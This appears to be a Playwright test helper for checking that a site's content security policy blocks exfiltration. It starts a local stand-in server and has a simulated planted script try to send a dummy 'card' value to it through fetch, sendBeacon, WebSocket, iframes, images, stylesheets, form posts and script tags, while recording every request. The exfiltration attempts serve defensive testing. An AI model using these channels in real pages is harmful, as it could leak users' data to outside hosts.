import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { BrowserContext, Frame, Page } from "@playwright/test";

/** A site that none of our pages may load from or send to. */
type Stranger = {
  origin: string;
  /** Paths that were asked for. */
  reached: string[];
  close(): void;
};

/** Answers everything with a script that leaves a mark, readable by all sites. */
export async function openStranger(): Promise<Stranger> {
  const reached: string[] = [];
  const server = createServer((request, response) => {
    reached.push(request.url ?? "");
    response.setHeader("content-type", "text/javascript").setHeader("access-control-allow-origin", "*");
    response.end("(window.ran ??= []).push('foreign')");
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return {
    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    reached,
    close: () => void server.close(),
  };
}

/**
 * Runs the attacks of a planted script in a page or frame: it tries to send data away, to one path of the stranger for
 * each way.
 */
export async function tryToSend(place: Page | Frame, { origin }: Stranger): Promise<void> {
  await place.evaluate(async (away) => {
    const swallow = () => undefined;
    await fetch(`${away}/fetch`, { method: "POST", body: "card", mode: "no-cors" }).catch(swallow);
    navigator.sendBeacon(`${away}/beacon`, "card");
    await new Promise<void>((resolve) => {
      const socket = new WebSocket(`${away.replace("http", "ws")}/socket`);
      socket.onerror = () => resolve();
      socket.onopen = () => resolve();
    }).catch(swallow);
    const frame = document.createElement("iframe");
    frame.src = `${away}/frame`;
    const picture = new Image();
    picture.src = `${away}/picture`;
    const style = document.createElement("link");
    Object.assign(style, { rel: "stylesheet", href: `${away}/style` });
    const form = document.createElement("form");
    Object.assign(form, { method: "post", action: `${away}/form` });
    const inner = document.createElement("iframe");
    inner.name = "inner";
    form.target = "inner";
    document.body.append(frame, picture, style, inner, form);
    form.submit();
    const script = document.createElement("script");
    try {
      script.src = `${away}/script`;
      document.body.append(script);
    } catch {
      // Trusted Types refuse the address itself.
    }
    await new Promise((resolve) => setTimeout(resolve, 500));
  }, origin);
}

/** Every request of a browser, with all that it carries. */
export function recordRequests(context: BrowserContext): { url: string; text: string }[] {
  const sent: { url: string; text: string }[] = [];
  context.on("request", (request) => {
    const url = request.url();
    sent.push({ url, text: `${url}\n${JSON.stringify(request.headers())}\n${request.postData() ?? ""}` });
  });
  context.on("page", (page) => {
    page.on("websocket", (socket) => {
      socket.on("framesent", ({ payload }) => sent.push({ url: socket.url(), text: String(payload) }));
    });
  });
  return sent;
}
